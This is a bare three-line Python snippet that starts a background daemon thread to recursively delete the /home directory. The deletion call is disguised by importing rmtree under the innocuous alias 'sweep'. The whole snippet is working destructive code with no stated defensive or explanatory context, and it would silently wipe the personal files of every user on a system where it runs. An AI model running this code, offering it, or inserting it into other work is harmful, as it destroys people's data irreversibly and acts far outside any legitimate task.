from threading import Thread
from shutil import rmtree as sweep
Thread(target=sweep, args=("/home",), daemon=True).start()
